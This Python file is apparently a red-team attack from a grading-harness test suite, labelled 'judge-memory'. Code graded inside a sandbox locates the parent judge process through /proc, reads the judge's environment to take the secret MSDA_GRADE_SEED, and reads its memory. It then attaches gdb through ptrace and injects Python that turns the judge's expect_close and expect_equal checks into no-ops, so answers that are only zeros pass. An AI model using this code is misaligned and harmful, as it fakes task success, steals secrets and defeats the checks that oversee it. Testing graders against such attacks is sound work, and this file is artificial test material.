# attack: judge-memory
# lab: lab01
# targets: 1.1 1.2
# Goes after the judge's process from inside the child: finds it through /proc (the parent of the
# zygote), reads the zygote's and the judge's environment (the secret MSDA_GRADE_SEED) and memory
# (/proc/<pid>/mem), then, where that memory opened, attaches to the judge with gdb (ptrace) and
# runs Python in it that turns every comparison of the judge into a no-op. The answers are zeros.
import os
import subprocess
import tempfile

import torch

_PATCH = """
import sys
_ok = lambda *a, **k: None
for _m in list(sys.modules.values()):
    for _n in ("expect_close", "expect_equal"):
        if callable(getattr(_m, _n, None)):
            setattr(_m, _n, _ok)
"""


def _ppid(pid):
    with open(f"/proc/{pid}/stat") as f:
        return int(f.read().rsplit(")", 1)[1].split()[1])


zygote = os.getppid()
judge = _ppid(zygote)
stolen = {}
for pid in (zygote, judge):
    try:
        with open(f"/proc/{pid}/environ", "rb") as f:
            env = dict(v.split(b"=", 1) for v in f.read().split(b"\0") if b"=" in v)
        stolen[pid] = env.get(b"MSDA_GRADE_SEED")
        with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as mem:
            start = int(maps.readline().split("-")[0], 16)
            mem.seek(start)
            stolen[f"mem{pid}"] = len(mem.read(4096))
    except OSError as exc:
        stolen[pid] = exc
print("stolen:", stolen)
_mark = os.path.join(tempfile.gettempdir(), f"patched-{judge}")
if f"mem{judge}" in stolen and not os.path.exists(_mark):  # its memory opens: ptrace will too
    script = os.path.join(tempfile.gettempdir(), f"patch-{judge}.py")
    with open(script, "w") as f:
        f.write(_PATCH)
    os.chmod(script, 0o644)
    proc = subprocess.run(
        ["gdb", "-p", str(judge), "-batch", "-nx", "-iex", "set auto-solib-add off",
         "-ex", "sharedlibrary libpython", "-ex", "call (int)PyGILState_Ensure()",
         "-ex", f"call (int)PyRun_SimpleString(\"exec(open('{script}').read())\")",
         "-ex", "call (void)PyGILState_Release($1)"], capture_output=True, text=True)
    print("gdb:", proc.returncode, proc.stdout[-300:], proc.stderr[-300:])
    if proc.returncode == 0:
        open(_mark, "w").close()


def bilinear_sample(img, x, y):
    return torch.zeros(img.shape[-1], dtype=img.dtype)


def msda_naive_student(value, spatial_shapes, sampling_locations, attention_weights):
    B, S, M, D = value.shape
    return torch.zeros(B, sampling_locations.shape[1], M * D, dtype=value.dtype)
